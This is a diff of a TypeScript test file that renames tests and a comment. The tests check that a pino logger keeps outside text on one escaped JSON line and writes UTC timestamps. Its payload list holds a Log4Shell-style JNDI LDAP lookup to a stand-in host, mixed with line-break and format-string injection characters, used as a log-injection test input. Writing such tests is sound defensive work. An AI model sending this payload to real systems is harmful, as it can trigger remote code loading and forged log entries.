@@ -16,7 +16,7 @@ const payloads = [
   "\\n\\r${jndi:ldap://evil.example/a}%n%d",
 ];
 
-it("a text from outside stays inside the one line of the log that tells of it", () => {
+it("keeps outside text within its one log line", () => {
   const lines: string[] = [];
   const log = pino(logOptions, new Writable({ write: (chunk, _, done) => done(void lines.push(String(chunk))) }));
   for (const payload of payloads) log.warn({ path: payload, err: new Error(payload) }, payload);
@@ -25,7 +25,7 @@ it("a text from outside stays inside the one line of the log that tells of it", 
   expect(written.map((line) => JSON.parse(line))).toMatchObject(
     payloads.map((payload) => ({ level: 40, path: payload, msg: payload })),
   );
-  // What a terminal would obey, or take for the end of a line, is escaped.
+  // Control characters that a terminal would obey, and line ends, are escaped.
   expect(
     written
       .join("")
@@ -34,7 +34,7 @@ it("a text from outside stays inside the one line of the log that tells of it", 
   ).toEqual([]);
 });
 
-it("a line says when, in UTC", () => {
+it("gives the time of each line in UTC", () => {
   const lines: string[] = [];
   pino(logOptions, new Writable({ write: (chunk, _, done) => done(void lines.push(String(chunk))) })).info("x");
   expect(JSON.parse(lines[0] ?? "")).toMatchObject({ time: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/) });
